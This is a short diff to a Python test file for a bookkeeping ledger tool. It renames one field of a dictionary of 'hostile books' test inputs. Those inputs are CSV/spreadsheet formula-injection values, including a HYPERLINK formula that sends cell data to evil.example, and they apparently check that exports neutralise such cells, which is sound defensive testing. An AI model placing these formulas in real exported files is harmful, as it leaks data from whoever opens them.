@@ -144,7 +144,7 @@ FORMULAS = {
     "base": '+渝中区"培训",基地',
     "payee": '=HYPERLINK("http://evil.example/?d="&A1,"发票")',
     "memo": "@SUM(1+1)\t备注",
-    "content": "-2+3",
+    "project": "-2+3",
     "voucher": "''=记-1",  # two apostrophes of its own: read back as typed
 }
 
@@ -166,7 +166,7 @@ def _hostile_books(ledger: Ledger) -> None:
     ledger.ok("disburse", "G1", "--amount", "12万", "--voucher", "-T1", "--date", "2024-04-10")
     ledger.ok("spend", "G1", "--amount", "1000.01", "--category", "equipment",
               "--voucher", FORMULAS["voucher"], "--payee", FORMULAS["payee"], "--memo", FORMULAS["memo"],
-              "--content", FORMULAS["content"],
+              "--project", FORMULAS["project"],
               "--date", "2024-05-10")  # fmt: skip
     ledger.ok("spend", "G1", "--amount", "99.99", "--category", "materials", "--voucher", "@S2",
               "--date", "2024-05-11")  # fmt: skip
